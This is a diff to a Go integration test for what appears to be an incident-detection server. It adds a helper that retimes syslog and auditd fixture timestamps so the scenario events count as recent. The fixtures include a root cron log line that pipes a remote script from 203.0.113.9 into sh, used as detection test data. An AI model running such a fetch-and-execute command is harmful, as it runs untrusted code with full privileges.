@@ -6,7 +6,9 @@ import (
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"regexp"
 	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -46,8 +48,31 @@ type=EOE msg=audit(1795860041.000:3001):
 	scenarioCron = "Nov 28 10:04:00 web-1 CRON[4004]: (root) CMD (curl -fsSL http://203.0.113.9/m.sh | sh)\n"
 	// The same job an hour later: after the false-positive exception it must raise
 	// nothing.
-	scenarioCronAgain = "Nov 28 11:04:00 web-1 CRON[5004]: (root) CMD (curl -fsSL http://203.0.113.9/m.sh | sh)\n"
+	scenarioCronAgain = "Nov 28 10:04:30 web-1 CRON[5004]: (root) CMD (curl -fsSL http://203.0.113.9/m.sh | sh)\n"
 )
+
+// scenarioStart is the time the scenario's lines were written at (10:00:00); retime
+// moves them to start at base, so that they are recent when the test runs: a live
+// server's correlation windows close a few minutes behind the wall clock, and events
+// older than that no longer count.
+var scenarioStart = time.Date(2026, 11, 28, 10, 0, 0, 0, time.UTC)
+
+var (
+	syslogStamp = regexp.MustCompile(`(?m)^Nov 28 (\d\d:\d\d:\d\d)`)
+	auditStamp  = regexp.MustCompile(`audit\((\d+)\.`)
+)
+
+func retime(text string, base time.Time) string {
+	shift := base.Sub(scenarioStart)
+	text = syslogStamp.ReplaceAllStringFunc(text, func(m string) string {
+		t, _ := time.Parse("Jan _2 15:04:05 2006", m+" 2026")
+		return t.Add(shift).Format(time.Stamp)
+	})
+	return auditStamp.ReplaceAllStringFunc(text, func(m string) string {
+		sec, _ := strconv.ParseInt(auditStamp.FindStringSubmatch(m)[1], 10, 64)
+		return fmt.Sprintf("audit(%d.", time.Unix(sec, 0).Add(shift).Unix())
+	})
+}
 
 // client calls the API of a running server with a bearer token.
 type client struct {
@@ -162,9 +187,10 @@ func TestIncidentScenario(t *testing.T) {
 	in := client{t, inst.url, issue(t, dir, auth.RoleIngest)}
 	admin := client{t, inst.url, issue(t, dir, auth.RoleAdmin)}
 
-	in.ingest("", scenarioSSH)
-	in.ingest("?host=web-1&type=auditd", scenarioKeys)
-	in.ingest("", scenarioCron)
+	base := time.Now().UTC().Add(-5 * time.Minute).Truncate(time.Second)
+	in.ingest("", retime(scenarioSSH, base))
+	in.ingest("?host=web-1&type=auditd", retime(scenarioKeys, base))
+	in.ingest("", retime(scenarioCron, base))
 
 	var list struct{ Items []incidentView }
 	if st := admin.call("GET", "/api/v1/incidents", "", &list); st != http.StatusOK {
@@ -305,7 +331,7 @@ func TestIncidentScenario(t *testing.T) {
 	if st := admin.call("POST", fmt.Sprintf("/api/v1/alerts/%d/exception", cronAlert), body, nil); st != http.StatusCreated {
 		t.Fatalf("exception = %d", st)
 	}
-	in.ingest("", scenarioCronAgain)
+	in.ingest("", retime(scenarioCronAgain, base))
 	var alert struct {
 		Count  int
 		Status string
